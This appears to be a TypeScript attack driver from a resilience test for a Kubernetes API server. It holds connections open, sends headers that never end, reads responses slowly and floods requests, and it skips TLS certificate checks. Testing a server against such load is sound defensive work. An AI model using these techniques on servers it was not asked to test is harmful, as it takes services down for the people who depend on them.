// A program of its own, so that what it does takes nothing of the process that measures: `attacker.ts KUBECONFIG NAME NUMBER`.
// Prints `begun` when the attack is in full swing; ends when its input does, with a line of JSON: answers by status. NAME is one of
// `attacks.ts`, with NUMBER of them at once, or a way to hold NUMBER of connections.
import { connect as connectTcp, type Socket } from "node:net";
import { connect } from "node:tls";
import { openApi, type Api } from "./api.ts";
import { attackNames, attackOf } from "./attacks.ts";

const [kubeconfig = "", name = "", number = "1"] = process.argv.slice(2);
const api = await openApi(kubeconfig);
const counts: Record<string, number> = {};
const count = (what: string | number): number => (counts[what] = (counts[what] ?? 0) + 1);
const begun = () => process.stdout.write("begun\n");

process.stdin.resume().once("end", () => {
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit(0));
});

/** Asks again and again. A connection that the server has closed instead of reading on counts as `closed`. */
async function askOn(asks: Api): Promise<never> {
  const { method, path, ask, stored } = attackOf(name);
  if (stored !== undefined) await asks.ask("POST", stored.path, { body: stored.body });
  for (;;) {
    const status = await asks.ask(method, path, ask).then(
      (answer) => answer.status,
      () => "closed",
    );
    if (count(status) === 1) begun();
  }
}

const { hostname, port } = new URL(api.url);
const where = { host: hostname, port: Number(port) };
const secure = (onOpen: (socket: Socket) => void): Socket => {
  const socket = connect({ ...where, rejectUnauthorized: false }, () => onOpen(socket));
  return socket;
};

/** Ways to hold a connection; `done` is called when it is held. */
const holds: Readonly<Record<string, (done: () => void) => Socket>> = {
  // Each was used once, so that it may rest.
  "idle connections": (done) =>
    secure((socket) => {
      socket.once("data", () => done());
      socket.write("GET /version HTTP/1.1\r\nHost: localhost\r\n\r\n");
    }),
  "connections without a handshake": (done) => connectTcp(where, done),
  "headers that never end": (done) =>
    secure((socket) => void socket.write("GET /version HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", done)),
};

/** Fifty at a time: more would wait in the queue of the listening socket. */
async function holdAll(hold: (done: () => void) => Socket): Promise<void> {
  for (let held = 0; held < Number(number); held += 50) {
    await Promise.all(
      Array.from(
        { length: Math.min(50, Number(number) - held) },
        () =>
          new Promise<void>((resolve) => {
            const socket = hold(() => {
              count("held");
              resolve();
            });
            socket.resume();
            socket.once("error", () => undefined);
            socket.once("close", () => {
              count("closed");
              resolve();
            });
          }),
      ),
    );
  }
  begun();
}

/** Each asks for all ConfigMaps and takes a kilobyte of them a second, until it is cut. */
async function readSlowly(): Promise<void> {
  for (let opened = 0; opened < Number(number); opened += 100) {
    // One has no more than 128 connections.
    const asks = await openApi(kubeconfig);
    const answers = Array.from({ length: Math.min(100, Number(number) - opened) }, async () => {
      const response = await asks.send("GET", "/api/v1/configmaps");
      count(response.statusCode ?? 0);
      const timer = setInterval(() => response.read(1024), 1000);
      response.on("readable", () => undefined);
      response.on("error", () => undefined);
      response.once("close", () => {
        clearInterval(timer);
        count("closed");
      });
    });
    await Promise.all(answers);
  }
  begun();
}

const hold = holds[name];
if (hold !== undefined) await holdAll(hold);
else if (name === "slow readers") await readSlowly();
else if (attackNames.includes(name)) for (let n = 0; n < Number(number); n += 1) void askOn(api);
else throw new Error(`there is no attack ${JSON.stringify(name)}`);
